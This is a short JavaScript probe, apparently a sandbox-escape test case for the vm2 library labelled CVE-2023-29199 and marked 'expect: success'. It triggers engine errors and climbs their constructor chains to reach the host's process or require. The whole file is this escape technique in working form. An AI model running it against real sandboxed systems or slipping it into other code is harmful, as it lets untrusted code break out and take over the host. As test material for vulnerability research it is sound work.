// tries: the way out of vm2 (CVE-2023-29199): an error of the engine's own, thrown by an overflow, walked up by constructors
// expect: success
function run(input) {
  const out = (error) => {
    let up = error;
    for (let i = 0; i < 9 && up; i++) {
      const F = up.constructor?.constructor;
      for (const say of ["process", "require", "globalThis.process", "this.constructor.constructor('return process')()"]) {
        try {
          if (F("return " + say)()) return "escaped by " + say;
        } catch {}
      }
      up = Object.getPrototypeOf(up);
    }
    return "";
  };
  const throwers = [
    () => null.x,
    () => (function again() { again(); })(),
    () => new Array(-1),
    () => (0, eval)("{"),
    () => decodeURIComponent("%"),
    () => JSON.parse("{"),
    () => new Proxy({}, null),
    () => "x".repeat(2 ** 30),
    () => structuredClone(() => 1),
    () => Symbol() + "",
    () => 1n + 1,
  ];
  for (const thrower of throwers) {
    try {
      thrower();
    } catch (error) {
      const way = out(error);
      if (way !== "") return way;
    }
  }
  return "contained";
}
